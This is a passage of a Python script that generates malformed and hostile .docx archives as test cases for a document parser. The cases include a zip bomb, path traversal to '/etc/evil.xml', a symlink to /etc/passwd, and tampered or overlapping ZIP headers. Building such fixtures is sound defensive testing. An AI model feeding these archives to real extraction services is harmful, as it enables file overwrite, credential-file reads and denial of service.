    return parts(TITLE + p(r('<w:fldChar w:fldCharType="begin"/>')) + TEXT)


@case
def hostile_bomb():
    made = parts("", whole=document(p("字" * 8 + " " * (80 * 1024 * 1024))))
    return made


@case
def hostile_ratio():
    made = parts(TITLE)
    made["word/media/image1.bmp"] = b"\0" * (16 * 1024 * 1024)
    return made


@case
def hostile_many_entries():
    made = parts(TITLE)
    made.update({f"word/media/{i}": "" for i in range(100000)})
    return made


@case
def hostile_traversal():
    return {**parts(TITLE), "word/../../evil.xml": "<x/>"}


@case
def hostile_absolute():
    return {**parts(TITLE), "/etc/evil.xml": "<x/>"}


@case
def hostile_drive():
    return {**parts(TITLE), "C:/evil.xml": "<x/>"}


@case
def hostile_symlink():
    link = zipfile.ZipInfo("word/link.xml", (2026, 1, 1, 0, 0, 0))
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    return list(parts(TITLE).items()) + [(link, "/etc/passwd")]


@case
def hostile_duplicate():
    return list(parts(TITLE).items()) + [("word/document.xml", document(p("另一篇")))]


@case
def hostile_duplicate_case():
    return list(parts(TITLE).items()) + [("word/Document.XML", document(p("另一篇")))]


@case
def hostile_nested_zip():
    return {"document.docx": pack(parts(TITLE))}


@case
def hostile_spreadsheet():
    made = parts(TITLE)
    made["[Content_Types].xml"] = made["[Content_Types].xml"].replace(
        f"{WORD_TYPE}.document.main+xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    )
    return made


# These need the bytes of the archive itself.

RAW = {}


def raw(function):
    RAW[function.__name__.replace("_", "-")] = function
    return function


@raw
def hostile_backslash():
    return pack({**parts(TITLE), "word/x/evil.xml": "<x/>"}).replace(b"word/x/evil.xml", b"word\\x\\evil.xml")


@raw
def hostile_truncated():
    return pack(parts(TITLE))[:-40]


@raw
def hostile_no_directory():
    whole = pack(parts(TITLE))
    return whole[: whole.index(b"PK\1\2")]


@raw
def hostile_encrypted():
    whole = bytearray(pack(parts(TITLE)))
    at = 0
    while (at := whole.find(b"PK\3\4", at)) >= 0:
        whole[at + 6] |= 1
        at += 4
    at = 0
    while (at := whole.find(b"PK\1\2", at)) >= 0:
        whole[at + 8] |= 1
        at += 4
    return bytes(whole)


@raw
def hostile_local_name():
    """The local header names another file than the directory does."""
    whole = pack(parts(TITLE))
    at = whole.index(b"word/document.xml")
    return whole[:at] + b"word/documend.xml" + whole[at + 17 :]


@raw
def hostile_local_size():
    whole = bytearray(pack(parts(TITLE)))
    at = whole.index(b"word/document.xml") - 30
    struct.pack_into("<I", whole, at + 22, 17)
    return bytes(whole)


@raw
def hostile_declared_size():
    """Both headers declare less than the data unpacks to."""
    whole = bytearray(pack(parts(TITLE)))
    name = b"word/document.xml"
    local = whole.index(name) - 30
    central = whole.rindex(name) - 46
    struct.pack_into("<I", whole, local + 22, 100)
    struct.pack_into("<I", whole, central + 24, 100)
    return bytes(whole)


@raw
def hostile_checksum():
    whole = bytearray(pack(parts(TITLE)))
    name = b"word/document.xml"
    for at in (whole.index(name) - 30 + 14, whole.rindex(name) - 46 + 16):
        whole[at] ^= 0xFF
    return bytes(whole)


@raw
def hostile_unlisted_entry():
    """A second document.xml that only the local headers know."""
    extra = pack({"word/document.xml": document(p("另一篇"))})
    extra = extra[: extra.index(b"PK\1\2")]
    whole = bytearray(pack(parts(TITLE)))
    start = struct.unpack_from("<I", whole, len(whole) - 6)[0]
    result = bytearray(whole[:start]) + extra + whole[start:]
    struct.pack_into("<I", result, len(result) - 6, start + len(extra))
    return bytes(result)


@raw
def hostile_overlap():
    """Two directory entries over the same data."""
    whole = bytearray(pack(parts(TITLE)))
    end = len(whole) - 22
    start = struct.unpack_from("<I", whole, end + 16)[0]
    entry = bytes(whole[start : whole.index(b"PK\1\2", start + 4)])
    name_length = struct.unpack_from("<H", entry, 28)[0]
    other = entry[:46] + entry[46 : 46 + name_length].replace(b"[", b"(") + entry[46 + name_length :]
    count, size = struct.unpack_from("<H", whole, end + 10)[0], struct.unpack_from("<I", whole, end + 12)[0]
    tail = bytearray(whole[end:])
    struct.pack_into("<HHI", tail, 8, count + 1, count + 1, size + len(other))
    return bytes(whole[:end] + other + tail)


@raw
def hostile_old_format():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2048


@raw
def hostile_empty():
    return b""


@raw
def hostile_deleted_marks():
    one = p(r("字"), '<w:rPr><w:del w:id="1"/></w:rPr>')
    return pack(parts(TITLE + one * 100000 + TEXT), zipfile.ZIP_STORED)


@raw
def hostile_many_boxes():
    return pack(parts(TITLE + p(r("<w:pict><v:textbox><w:txbxContent>" + p("字") * 100000 + "</w:txbxContent></v:textbox></w:pict>"))), zipfile.ZIP_STORED)


@raw
def stored_parts():
    """Parts without compression."""
    return pack(parts(TITLE + TEXT), zipfile.ZIP_STORED)


def write(path, value):
    with open(path, "wb") as file:
        file.write(value if isinstance(value, bytes) else pack(value))


def main():
    if sys.argv[1:2] == ["--text"]:
        with open(sys.argv[2], encoding="utf-8") as file:
            body = "".join(p(line) for line in file.read().splitlines())
        write(sys.argv[3], parts(body))
        return
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    for name, function in {**CASES, **RAW}.items():
        write(os.path.join(folder, name + ".docx"), function())
    if len(sys.argv) > 2:
        with open(sys.argv[2], "w", encoding="utf-8") as file:
            file.write(f"{len(CASES) + len(RAW)} files\n")


if __name__ == "__main__":
    main()
